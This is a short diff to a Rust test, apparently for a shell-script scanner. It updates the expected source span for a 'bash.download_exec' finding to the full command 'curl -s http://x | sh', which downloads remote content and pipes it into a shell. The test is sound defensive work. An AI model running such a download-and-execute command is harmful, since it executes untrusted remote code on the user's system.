@@ -68,7 +68,7 @@ fn spans_point_at_the_original_text_after_continuations() {
         .iter()
         .find(|f| f.rule_id == "bash.download_exec")
         .expect("finding");
-    assert_eq!(&src[f.span.start..f.span.end], "sh");
+    assert_eq!(&src[f.span.start..f.span.end], "curl -s http://x | sh");
     assert_eq!(f.span.line, 2);
 }
 
